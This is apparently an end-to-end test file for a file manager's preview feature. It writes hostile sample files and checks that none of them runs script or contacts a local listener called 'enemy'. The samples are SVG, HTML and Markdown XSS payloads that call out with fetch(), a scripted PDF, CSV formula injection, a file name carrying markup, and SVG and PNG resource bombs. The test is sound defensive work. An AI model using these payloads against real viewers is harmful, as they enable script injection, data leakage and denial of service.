/** Looking at files in the real window over the real daemon: those of a person, and those of an enemy. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { InstalledApp } from '@space/sdk/host'
import { chromium, type Frame, type Locator } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { pdfOf, pngOf, wavOf } from './file-samples.ts'
import { openWindow, POLL, type Window } from './window.ts'

const CHROMIUM = '/usr/bin/chromium'
const MIB = 2 ** 20
const LINE_BYTES = 2 ** 30

const open = new AsyncDisposableStack()
let space: Window
let files: Frame
/** When Space was pressed last, for the figures that are told. */
let pressedAt = 0
/** Where everything hostile would send what it knows; it counts who comes. */
let enemy: { url: string; visits: string[] }

beforeAll(async () => {
  enemy = await openEnemy()
  space = open.use(await openWindow())
  space.page.setDefaultTimeout(10_000)
  await space.page.setViewportSize({ width: 1280, height: 1500 })
  const { drive } = space.house.space
  const bytes = (name: string, content: Uint8Array): Promise<unknown> =>
    drive.write(`/Box/${name}`, [content])
  const text = (name: string, content: string): Promise<unknown> =>
    bytes(name, Buffer.from(content))
  await bytes('agreement.pdf', pdfOf(500))
  await bytes('photo.jpg', await photo())
  await bytes('sound.wav', wavOf(20))
  await text('code.ts', 'const answer = 42 // told\n')
  await text('table.csv', `name,amount\n${'Row,1\n'.repeat(120_000)}`)
  await text('note.md', '# Trip\n\nTen **days**, [web](https://example.com/a)\n')

  await text('drawing.svg', svgOf(enemy.url))
  await text('bomb.svg', SVG_BOMB)
  await text('page.html', htmlOf(enemy.url))
  await text('page.jpg', htmlOf(enemy.url))
  await text('evil.md', markdownOf(enemy.url))
  await text(
    'deep.md',
    `${'['.repeat(200_000)}\n\n${'> '.repeat(20_000)}x\n\n${'*a_'.repeat(50_000)}`,
  )
  await text('deep.ts', `${'/*'.repeat(80_000)}${'`${'.repeat(20_000)}${'('.repeat(90_000)}`)
  await bytes(
    'evil.pdf',
    pdfOf(2, {
      script: `app.launchURL\\("${enemy.url}/pdf"\\); this.submitForm\\("${enemy.url}/form"\\)`,
    }),
  )
  await text(
    'evil.csv',
    `a,b\n=IMAGE("${enemy.url}/csv"),=HYPERLINK("${enemy.url}/link")\n<img src=${enemy.url}/cell>,2\n`,
  )
  await bytes('bomb.png', pngOf(50_000, 50_000, 100))
  await bytes('picture.txt', pngOf(40, 30))
  await bytes('program.pdf', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'))
  await bytes('broken.png', badPng())
  await text(`<img src=${encodeURIComponent(enemy.url)} onerror=ran()>.txt`, 'odd')
  await drive.write('/Box/line.txt', oneLine())

  const apps = (await space.owner.call('apps.list', [])) as InstalledApp[]
  const label = apps.find(({ id, isBuiltIn }) => isBuiltIn && id === 'files')?.label
  await space.owner.call('grants.give', [
    { app: label, entry: null, mode: 'change', lasting: 'until-off' },
  ])
  await space.page.getByRole('button', { name: 'Files', exact: true }).first().click()
})
afterAll(() => open.disposeAsync())

/** Nothing of any file ran, nobody was told of anything, and the next one can be looked at. */
beforeEach(async ({ onTestFinished }) => {
  onTestFinished(async () => {
    const harm = {
      ran: await files.evaluate(() => 'ran' in globalThis),
      visits: enemy.visits,
      // What has no small picture is told so by the address of it.
      complaints: space.complaints.filter((one) => !one.includes('/~cap/')),
    }
    const isHarmed = harm.ran || harm.visits.length > 0 || harm.complaints.length > 0
    if (isHarmed) throw new Error(`something came of it: ${JSON.stringify(harm)}`)
    await close()
  })
})

/** Quick look at a file: a click on its row, then Space. */
async function look(name: string): Promise<Locator> {
  await files.getByRole('grid').getByTitle(name, { exact: true }).click()
  pressedAt = performance.now()
  await space.page.keyboard.press('Space')
  const dialog = files.getByRole('dialog', { name, exact: true })
  await dialog.waitFor()
  return dialog
}

async function close(): Promise<void> {
  if ((await files.getByRole('dialog').count()) > 0) await space.page.keyboard.press('Escape')
  await expect.poll(() => files.getByRole('dialog').count(), POLL).toBe(0)
}

test('the folder is gone into', async () => {
  files = await space.app()
  // The address of the tab comes in its own time, and may lead back to where it began.
  await expect
    .poll(async () => {
      const box = files.getByRole('grid').getByTitle('Box', { exact: true })
      if ((await box.count()) > 0) {
        await box.click()
        await space.page.keyboard.press('Enter')
      }
      return files.getByRole('heading', { level: 1 }).textContent()
    }, POLL)
    .toBe('Box')
  await files.getByRole('grid').getByTitle('photo.jpg', { exact: true }).waitFor()
})

test('a picture of 12 megapixels is shown, zoomed with keys and moved', async () => {
  const dialog = await look('photo.jpg')
  const picture = dialog.getByRole('img', { name: 'photo.jpg' })
  await expect.poll(() => picture.getAttribute('data-shown'), FAST).toBe('true')
  await picture.evaluate((image: HTMLImageElement) => image.decode())
  console.log(`picture of 12 MP shown after ${Math.round(performance.now() - pressedAt)} ms`)
  await dialog.getByText(/4000 × 3000/).waitFor()
  await space.page.keyboard.press('1')
  await dialog.getByRole('button', { name: '100 %' }).waitFor()
  const before = await picture.getAttribute('style')
  await space.page.keyboard.press('ArrowDown')
  expect(await picture.getAttribute('style')).not.toBe(before)
  await space.page.keyboard.press('0')
  await dialog.getByRole('button', { name: 'Fit' }).waitFor()
})

test('the first page of a PDF of 500 is drawn, its text can be selected, and its links are asked about', async () => {
  const dialog = await look('agreement.pdf')
  await dialog.getByText('Rental agreement, page 1').waitFor()
  const drawn = () =>
    dialog
      .locator('canvas')
      .first()
      .evaluate((canvas: HTMLCanvasElement) => {
        const pixels = canvas
          .getContext('2d')
          ?.getImageData(0, 0, canvas.width, canvas.height / 3).data
        return (
          pixels?.some((value, at) => at % 4 === 0 && value < 100 && pixels[at + 3] === 255) ??
          false
        )
      })
  await expect.poll(drawn, FAST).toBe(true)
  console.log(`first page of 500 drawn after ${Math.round(performance.now() - pressedAt)} ms`)
  await dialog.getByText('Page 1 of 500').waitFor()
  await dialog.getByRole('button', { name: 'https://example.com/rent' }).click()
  await space.page.getByRole('dialog').getByText('example.com').first().waitFor()
  await space.page.getByRole('dialog').getByRole('button', { name: 'Not now' }).click()
  await dialog.getByRole('region', { name: 'Pages' }).press('End')
  await dialog.getByText('Page 500 of 500').waitFor()
  await dialog.getByText('Rental agreement, page 500').waitFor()
})

test('sound is played, and sought by ranges', async () => {
  const dialog = await look('sound.wav')
  const player = dialog.locator('audio')
  await expect.poll(() => player.evaluate((one: HTMLMediaElement) => one.duration), POLL).toBe(20)
  const at = await player.evaluate(async (one: HTMLMediaElement) => {
    const sought = new Promise((resolve) => one.addEventListener('seeked', resolve, { once: true }))
    one.currentTime = 15
    await sought
    return one.currentTime
  })
  expect(at).toBe(15)
})

test('a program has colours, and is edited and saved with Ctrl+S', async () => {
  const dialog = await look('code.ts')
  await dialog.locator('span', { hasText: /^const$/ }).waitFor()
  await dialog.getByRole('button', { name: 'Edit' }).click()
  const field = dialog.getByRole('textbox')
  await field.fill('const answer = 43\n')
  await field.press('Control+s')
  await dialog.getByText(/^Saved/).waitFor()
  expect(await space.read('/Box/code.ts')).toBe('const answer = 43\n')
  expect(await space.house.space.drive.versions('/Box/code.ts')).toHaveLength(2)
})

test('a table of more rows than can be shown says so, and only some are in the page', async () => {
  const dialog = await look('table.csv')
  await dialog.getByText(/the first 100.000 rows/).waitFor()
  expect(await dialog.getByRole('row').count()).toBeLessThan(80)
  await dialog.getByRole('table').press('End')
  await dialog.getByRole('rowheader', { name: /^100.000$/ }).waitFor()
})

test('a drawing is a picture: its scripts do not run, and it fetches nothing', async () => {
  const dialog = await look('drawing.svg')
  const picture = dialog.getByRole('img', { name: 'drawing.svg' })
  await expect.poll(() => picture.getAttribute('data-shown'), POLL).toBe('true')
  await dialog.getByRole('button', { name: 'Source' }).click()
  await dialog.getByText('<script>').first().waitFor()
})

test('a drawing that would take for ever is not drawn', async () => {
  const dialog = await look('bomb.svg')
  await dialog.getByText(/repeats itself so often/).waitFor()
})

test.each(['page.html', 'page.jpg'])('%s, a web page, is only its source', async (name) => {
  const dialog = await look(name)
  await dialog
    .getByText(/<script>/)
    .first()
    .waitFor()
  expect(await dialog.locator('iframe, object, embed, script, form, img').count()).toBe(0)
})

test('Markdown runs nothing and fetches nothing', async () => {
  const dialog = await look('evil.md')
  await dialog.getByRole('heading', { name: 'Evil', exact: true }).waitFor()
  expect(await dialog.locator('iframe, object, embed, script, img, form, style').count()).toBe(0)
  const leads = await dialog
    .getByRole('link')
    .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''))
  expect(leads).toContain(`${enemy.url}/link`)
  expect(leads.filter((one) => !one.startsWith(`${enemy.url}/`))).toEqual([])
})

test.each(['deep.md', 'deep.ts'])(
  '%s, made to keep a parser busy, is shown as its text',
  async (name) => {
    const dialog = await look(name)
    await dialog.getByRole('region', { name: 'Text' }).waitFor()
    await dialog.getByText(/KB · UTF-8/).waitFor()
  },
)

test('scripts of a PDF are never run', async () => {
  const dialog = await look('evil.pdf')
  await dialog.getByText('Rental agreement, page 1').waitFor()
})

test('what stands in a table is text, formulas too', async () => {
  const dialog = await look('evil.csv')
  await dialog.getByText(/^=IMAGE\(/).waitFor()
  expect(await dialog.locator('img, a').count()).toBe(0)
})

test('a picture that would fill gigabytes is not decoded', async () => {
  const dialog = await look('bomb.png')
  await dialog.getByText(/50.000 × 50.000 pixels/).waitFor()
  expect(await dialog.locator('img').count()).toBe(0)
})

test('a text of a gibibyte in one line is looked at from its start and its end', async () => {
  const dialog = await look('line.txt')
  await dialog.getByText(/Part 1 of 1.024/).waitFor()
  await dialog.getByText(/^begin/).waitFor()
  await dialog.getByRole('button', { name: 'End' }).click()
  await dialog.getByText(/end$/).waitFor()
})

test.each([
  ['picture.txt', /40 × 30/],
  ['program.pdf', /Its name says that it is a PDF/],
  ['broken.png', /damaged/],
])('%s is shown by what is inside', async (name, words) => {
  const dialog = await look(name)
  await dialog.getByText(words).waitFor()
})

test('a name with markup is a name', async () => {
  const name = `<img src=${encodeURIComponent(enemy.url)} onerror=ran()>.txt`
  const dialog = await look(name)
  await dialog.getByText('odd').waitFor()
})

test('the enemy would have heard of it', async () => {
  await fetch(`${enemy.url}/control`)
  expect(enemy.visits.splice(0)).toEqual(['/control'])
})

/** A measure needs to look more often than a test that only waits. */
const FAST = { timeout: 15_000, interval: 10 }

async function openEnemy(): Promise<{ url: string; visits: string[] }> {
  const visits: string[] = []
  const server: Server = createServer((request, response) => {
    visits.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  open.defer(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, visits }
}

/** A photo as a camera makes it, drawn and packed by a browser. */
async function photo(): Promise<Buffer> {
  await using stack = new AsyncDisposableStack()
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })
  stack.defer(() => browser.close())
  const page = await browser.newPage()
  const packed = await page.evaluate(async () => {
    const canvas = new OffscreenCanvas(4000, 3000)
    const context = canvas.getContext('2d')
    if (context === null) throw new Error('nothing can be drawn')
    for (let at = 0; at < 4000; at += 1) {
      context.fillStyle = `hsl(${(at * 7) % 360} 60% ${30 + ((at * 13) % 50)}%)`
      context.fillRect((at * 37) % 4000, (at * 53) % 3000, 220, 160)
    }
    const blob = await canvas.convertToBlob({ type: 'image/jpeg', quality: 0.92 })
    const bytes = new Uint8Array(await blob.arrayBuffer())
    let text = ''
    for (let at = 0; at < bytes.length; at += 8192) {
      text += String.fromCharCode(...bytes.subarray(at, at + 8192))
    }
    return btoa(text)
  })
  return Buffer.from(packed, 'base64')
}

async function* oneLine(): AsyncGenerator<Uint8Array> {
  const piece = Buffer.alloc(MIB, 'x')
  for (let at = 0; at < LINE_BYTES; at += MIB) {
    if (at === 0) yield Buffer.from('begin' + 'x'.repeat(MIB - 5))
    else if (at === LINE_BYTES - MIB) yield Buffer.from('x'.repeat(MIB - 3) + 'end')
    else yield piece
  }
}

/** Each group shows the one before ten times. */
const SVG_BOMB = `<svg xmlns="http://www.w3.org/2000/svg"><g id="g0"><rect width="9" height="9"/></g>${Array.from(
  { length: 12 },
  (_, at) => `<g id="g${at + 1}">${`<use href="#g${at}"/>`.repeat(10)}</g>`,
).join('')}</svg>`

/** Nobody knows how deep its pixels are. */
function badPng(): Buffer {
  const png = pngOf(400, 300)
  png[24] = 77
  return png
}

function svgOf(url: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" onload="top.ran = 1; fetch('${url}/onload')">
<script>parent.ran = 1; fetch('${url}/script')</script><script href="${url}/script.js"/>
<style>@import url(${url}/style.css); rect { fill: url(${url}/fill.svg#a) }</style>
<image href="${url}/image.png" width="9" height="9"/><use href="${url}/use.svg#a"/>
<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"/><img xmlns="http://www.w3.org/1999/xhtml" src="${url}/img"/></foreignObject>
<a href="${url}/a"><rect width="400" height="300"/></a><animate onbegin="parent.ran = 1"/></svg>`
}

function htmlOf(url: string): string {
  return `<!doctype html><script>globalThis.ran = 1; fetch('${url}/html')</script>
<img src="${url}/img" onerror="globalThis.ran = 1"><link rel="stylesheet" href="${url}/css">
<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><meta http-equiv="refresh" content="0;${url}/go">
<form action="${url}/form"><button autofocus onfocus="globalThis.ran = 1">x</button></form>`
}

function markdownOf(url: string): string {
  return `# Evil\n\n${htmlOf(url)}\n\n![pic](${url}/picture.png) ![data](data:text/html,<script>ran=1</script>)\n
[js](javascript:globalThis.ran=1) [data](data:text/html,x) [link](${url}/link) <javascript:ran()>\n
<svg onload="globalThis.ran=1"></svg><style>body{background:url(${url}/bg)}</style>\n\n\`\`\`html\n<script>ran=1</script>\n\`\`\`\n`
}
